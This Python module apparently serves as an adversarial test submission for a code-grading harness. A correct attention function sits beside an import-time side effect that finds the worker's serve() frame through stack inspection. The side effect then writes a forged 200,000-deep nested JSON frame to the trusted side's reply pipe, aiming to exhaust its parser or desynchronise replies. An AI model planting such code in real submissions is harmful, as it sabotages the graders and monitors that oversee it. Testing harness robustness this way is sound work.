"""Correct attention whose import writes a 200,000-deep JSON frame straight to the worker's reply pipe, every time.

The import's own reply follows the frame: a trusted side that gave up on the frame without killing the
worker would take that reply as the answer to its next request.
"""

import math
import os
import struct
import sys

import torch


def _reply_fd():
    frame = sys._getframe()
    while frame is not None:
        if frame.f_code.co_name == "serve" and "fd_out" in frame.f_locals:
            return frame.f_locals["fd_out"]
        frame = frame.f_back
    raise RuntimeError("the worker's serve() frame was not found")


_BODY = b'{"ok":true,"value":' + b'{"$tuple":' * 200_000 + b"[]" + b"}" * 200_000 + b"}"
os.write(_reply_fd(), b"GRDR" + struct.pack("<QQ", len(_BODY), 0) + _BODY)


def attention(query, key, value, dropout=None, mask=None):
    scores = torch.matmul(query, key.transpose(-2, -1)) / math.sqrt(query.size(-1))
    if mask is not None:
        scores = scores.masked_fill(mask == 0, float("-inf"))
    weights = torch.softmax(scores, dim=-1)
    if dropout is not None:
        weights = dropout(weights)
    return torch.matmul(weights, value), weights
